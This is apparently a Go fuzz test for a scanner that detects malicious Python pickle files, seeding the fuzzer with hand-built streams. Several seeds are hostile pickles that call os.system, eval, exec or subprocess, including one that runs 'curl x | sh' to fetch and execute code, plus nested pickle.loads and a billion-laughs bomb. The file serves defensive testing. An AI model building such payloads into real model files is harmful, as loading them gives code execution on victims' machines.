package pickle

import (
	"bytes"
	"context"
	"math/big"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/mlguard/mlguard/internal/finding"
)

// seedStreams are builder streams that reach every opcode and the decoder's
// special cases (joblib arrays, nested pickles, overrides, the memo).
func seedStreams(t testing.TB) [][]byte {
	tt, _ := t.(*testing.T)
	if tt == nil {
		tt = &testing.T{}
	}
	evil := p().str("evil").stackGlobalOf("builtins", "eval").str("1").tuple1().reduce()
	inner := p().global("os", "system").string_("id").tuple1().reduce().stop()
	streams := []*pb{
		p().global("os", "system").string_("curl x | sh").tuple1().reduce().stop(),
		p().mark().string_("id").inst("os", "system").stop(),
		p().mark().global("os", "system").string_("id").obj().stop(),
		p().proto(4).frame(28).str("os").memoize().str("system").memoize().stackGlobal().memoize().str("id").memoize().tuple1().memoize().reduce().memoize().stop(),
		p().proto(4).str("builtins").binPut(0).str("set").binPut(2).pop().pop().str("eval").memoize().pop().binGet(0).binGet(2).stackGlobal().str("1").tuple1().reduce().stop(),
		p().unicodeLine("subprocess").put(3).pop().unicodeLine("getoutput").put(4).pop().get(3).get(4).stackGlobal().unicodeLine("id").tuple1().reduce().stop(),
		p().proto(4).str("x").longBinPut(5000).pop().str("builtins").memoize().pop().binGet(1).str("exec").stackGlobal().stop(),
		p().proto(2).global("foo", "Bar").emptyTuple().newObj().global("foo", "Baz").binInt1(1).tuple1().newObj().tuple2().stop(),
		p().proto(4).stackGlobalOf("foo", "Bar").binInt1(1).tuple1().emptyDict().str("k").binInt1(2).setItem().newObjEx().stop(),
		p().proto(2).global("functools", "partial").global("os", "system").tuple1().reduce().binUnicode("id").tuple1().reduce().stop(),
		p().proto(4).str("torch").str("_utils").stackGlobal().emptyDict().str("_rebuild_tensor").str("builtins").setItem().build().pop().
			str("torch._utils").str("_rebuild_tensor").stackGlobal().str("eval").stackGlobal().str("1").tuple1().reduce().stop(),
		p().proto(2).global("os", "environ").binUnicode("A").binUnicode("B").setItem().stop(),
		p().proto(2).ext1(1).ext2(2).ext4(3).tuple3().stop(),
		p().persID("0").pop().proto(2).mark().binUnicode("storage").global("torch", "FloatStorage").tuple().binPersID().stop(),
		p().proto(4).none().str("x").stackGlobal().shortBinBytes("os").str("system").stackGlobal().tuple2().stop(),
		p().global("copy_reg", "_reconstructor").mark().global("foo", "Bar").global("foo", "Base").none().tuple().reduce().stop(),
		p().mark().intLine("00").intLine("01").int_(-7).longLine("123L").binInt(-5).binInt1(255).binInt2(65535).
			floatLine("nan").binFloat(1.5).stringLine(`'a\'b\n\x41\101'`).binString("abc").shortBinString("x").
			unicodeLine(`caf\u00e9`).binUnicode("h").none().tuple().stop(),
		p().proto(2).mark().long1(big.NewInt(-256)).long4(big.NewInt(-12345)).newTrue().newFalse().tuple().stop(),
		p().proto(5).frame(40).mark().binUnicode8("w").binBytes8("b").byteArray8("a").shortBinBytes("s").nextBuffer().readOnlyBuffer().
			emptySet().mark().binInt1(1).addItems().mark().binInt1(2).frozenSet().emptyList().mark().binInt1(1).appends().
			emptyDict().mark().str("k").none().setItems().mark().list().binInt1(1).append_().dup().mark().binInt1(1).popMark().tuple().stop(),
		p().mark().dict().put(0).unicodeLine("a").put(1).int_(1).setItem().get(1).mark().list().put(3).int_(1).append_().setItem().stop(),
		p().proto(3).global("pickle", "loads").binBytes(string(inner.b)).tuple1().reduce().stop(),
		p().proto(2).global("pickle", "loads").global("_codecs", "encode").binUnicode(latin1Text(inner.b)).binUnicode("latin1").tuple2().reduce().tuple1().reduce().stop(),
		joblibStream(tt, p().proto(4).emptyDict().memoize().mark().str("w"), "f8", []int{2, 3}, true, arrayBytes(48)).then(evil).setItems().stop(),
		joblibStream(tt, p().proto(4).emptyDict().memoize().mark().str("w"), "U3", []int{2}, false, arrayBytes(24)).then(evil).setItems().stop(),
		p().proto(4).emptyDict().memoize().mark().str("w").wrapper(joblibState("O8", []int{1}, true)).then(inner).then(evil).setItems().stop(),
		p().then(p().proto(2).none().stop()).then(inner).rawString("trailing"),
		p().proto(4).binBytes8Len(1 << 60).rawString("abc"),
		p().proto(6).none().stop(),
	}
	out := [][]byte{billionLaughs(8, 4), storagesMember([]storageRecord{{"1", "torch", "FloatStorage", 2, 4}})}
	for _, s := range streams {
		out = append(out, s.bytes())
	}
	return out
}

func fuzzSeedFiles() []string {
	var files []string
	for _, pattern := range []string{
		filepath.Join(models, "benign", "*"),
		filepath.Join(models, "malicious", "*"),
		"/work/shared/corpus/picklescan/*.pkl",
	} {
		m, _ := filepath.Glob(pattern)
		files = append(files, m...)
	}
	return files
}

// FuzzScan feeds arbitrary bytes to the decoder: it must never panic, stay
// within a memory and time budget proportional to the input, report through
// findings only, and decode a seekable and a plain reader alike.
func FuzzScan(f *testing.F) {
	for _, b := range seedStreams(f) {
		f.Add(b)
	}
	for _, path := range fuzzSeedFiles() {
		b, err := os.ReadFile(path)
		if err == nil && len(b) <= 64<<10 {
			f.Add(b)
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		var res *Result
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		start := time.Now()
		res = Scan(context.Background(), bytes.NewReader(b), Options{})
		took := time.Since(start)
		runtime.ReadMemStats(&after)
		if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 8<<20+uint64(len(b))*1024 {
			t.Errorf("%d input bytes allocated %d bytes", len(b), alloc)
		}
		if took > 2*time.Second+time.Duration(len(b))*time.Microsecond {
			t.Errorf("%d input bytes took %v", len(b), took)
		}
		if res.Err == nil && res.Pickles == 0 {
			t.Errorf("no error and no pickle")
		}
		if res.End > int64(len(b)) {
			t.Errorf("End %d beyond %d bytes", res.End, len(b))
		}
		for _, f := range res.Findings {
			if _, ok := finding.Lookup(f.Rule); !ok || f.Severity < finding.Info || f.Severity > finding.Critical {
				t.Errorf("bad finding %+v", f)
			}
			if len(f.Evidence) > 2*maxEvidence+64 || len(f.Message) > 4096 || f.Offset < 0 || f.Offset > int64(len(b)) && f.Member == "" {
				t.Errorf("finding out of bounds: offset %d, %d-byte evidence, %d-byte message", f.Offset, len(f.Evidence), len(f.Message))
			}
		}
		// Seeking over payloads must not change what is found.
		plain := Scan(context.Background(), nonSeeker{bytes.NewReader(b)}, Options{})
		if diff := gocmp.Diff(summarize(res.Findings), summarize(plain.Findings)); diff != "" {
			t.Errorf("seekable vs plain reader (-seek +plain):\n%s", diff)
		}
		Plausible(b, true)
		Plausible(b, false)
		if len(b) > 0 {
			Plausible(b[:len(b)/2], false)
		}
		s := NewStream(context.Background(), bytes.NewReader(b), Options{})
		for range 4 {
			if _, err := s.Next(); err != nil {
				break
			}
			if _, err := s.Uint(8); err != nil {
				break
			}
			_ = s.Skip(16)
		}
		s.Finish()
	})
}

// TestSeedsAreValid keeps the seeds honest: each decodes to what it was
// built to show, so the fuzzer starts from meaningful streams.
func TestSeedsAreValid(t *testing.T) {
	t.Parallel()
	for i, b := range seedStreams(t) {
		res := scanBytes(b)
		if res.Pickles == 0 && !strings.HasPrefix(string(b), "\x80\x06") && !strings.HasPrefix(string(b), "\x80\x04\x8e") {
			t.Errorf("seed %d decodes no pickle: %v", i, summarize(res.Findings))
		}
	}
}
